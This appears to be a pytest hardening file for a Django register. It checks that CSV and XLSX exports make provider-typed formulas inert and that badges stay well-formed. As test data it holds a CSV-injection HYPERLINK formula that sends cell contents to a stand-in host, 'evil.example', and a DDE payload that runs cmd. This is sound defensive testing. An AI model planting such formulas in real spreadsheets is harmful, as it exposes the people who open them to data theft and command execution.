"""Nothing a provider types runs as a formula in any spreadsheet the register writes, and nothing
stored can stop a workbook or a badge being written."""

import csv
import io

import pytest
from lxml import etree
from openpyxl import load_workbook

from programmes.models import Programme, ProgrammeChange
from programmes.vocabulary import ProgrammeStatus
from providers.models import Provider
from qaportal.spreadsheets import inert_cell
from summaries.exports import xlsx
from summaries.exports.tables import summary_table_list
from summaries.filters import summary_filterset
from summaries.selectors import summary_tables
from tests import factories
from tests.hardening.conftest import PROFILE

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def renamed_provider(client, provider_editor, convenor, provider):
    """The provider renamed to a formula through the editor's own profile form and approved by a convenor
    (a new name is public text), with a published programme."""
    factories.make_programme(provider, title="@SUM(1+1)*cmd|' /C calc'!A0", status=ProgrammeStatus.PUBLISHED)
    client.force_login(provider_editor)
    response = client.post(f"/provider/providers/{provider.slug}/profile/", PROFILE | {"name": HYPERLINK})
    assert response.status_code == 302
    change = ProgrammeChange.objects.get(provider=provider, kind=ProgrammeChange.Kind.PROVIDER)
    client.force_login(convenor)
    response = client.post(f"/convenor/changes/{change.id}/", {"decision": "approve"})
    assert response.status_code == 302
    client.logout()
    provider.refresh_from_db()
    assert provider.name == HYPERLINK
    return provider


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx", "＝1+1", "＋1", "－1", "＠A1"],
)
def test_every_formula_start_is_made_inert(text):
    assert inert_cell(text) == "'" + text


def test_ordinary_text_numbers_and_dates_are_written_as_they_are():
    assert inert_cell("Northgate – Trust") == "Northgate – Trust"
    assert inert_cell(-1) == -1 and inert_cell(None) is None and inert_cell(True) is True


def test_the_anonymous_directory_export_shows_a_formula_name_as_text(client, renamed_provider):
    rows = csv_rows(client.get("/programmes/export.csv"))

    assert rows[1][:2] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'" + HYPERLINK]


def test_the_convenor_csv_shows_a_formula_name_as_text(client, convenor, renamed_provider):
    client.force_login(convenor)
    rows = csv_rows(client.get("/convenor/summaries/download.csv"))

    header, *body = rows
    provider_cells = {row[header.index("provider")] for row in body}
    assert provider_cells == {"'" + HYPERLINK}


def write_register_workbook(path):
    filterset = summary_filterset({})
    assert filterset.is_valid()
    tables = summary_tables(scope=filterset.scope())
    xlsx.write_workbook(path, tables=tables, table_list=summary_table_list(tables))
    return load_workbook(path)


def formula_cells(workbook) -> list[str]:
    return [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_workbook_holds_no_formula_cells(renamed_provider, tmp_path):
    workbook = write_register_workbook(tmp_path / "register.xlsx")

    assert formula_cells(workbook) == []
    sheet = workbook["Programmes"]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    assert sheet.cell(row=2, column=header.index("provider") + 1).value == "'" + HYPERLINK


def test_control_characters_already_stored_cannot_stop_the_workbook(tmp_path):
    # Rows written before the text rule (or by SQL) must not take every register-wide export down.
    provider = factories.make_provider(name="Bad\x01\x02\x1b name\ufffe")
    factories.make_programme(provider, title="Title\x0b\x7f")
    Provider.objects.filter(pk=provider.pk).update(name="Bad\x01\x02\x1b name\ufffe")

    workbook = write_register_workbook(tmp_path / "register.xlsx")

    sheet = workbook["Programmes"]
    values = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row}
    assert "Bad\ufffd\ufffd\ufffd name\ufffd" in values and "Title\ufffd\ufffd" in values


def test_a_badge_stays_well_formed_xml_whatever_is_stored(client):
    provider = factories.make_provider(name="A & B <Trust> \"quoted\" 'it'\x01\x1b\ufffe")
    programme = factories.make_programme(provider, title="Maths & <English>\x02\x0c")

    for url in (f"/providers/{provider.slug}/badge.svg", f"/programmes/{programme.slug}/badge.svg"):
        svg = etree.fromstring(client.get(url).content)
        title = svg.find("{http://www.w3.org/2000/svg}title").text
        assert "&" in title and "<" in title, title


def test_the_programme_export_has_the_same_cells_for_ordinary_names(client, provider):
    factories.make_programme(provider, title="Early Reading Leadership")
    rows = csv_rows(client.get("/programmes/export.csv"))
    assert rows[1][:2] == ["Early Reading Leadership", provider.name]
    assert Programme.objects.count() == 1
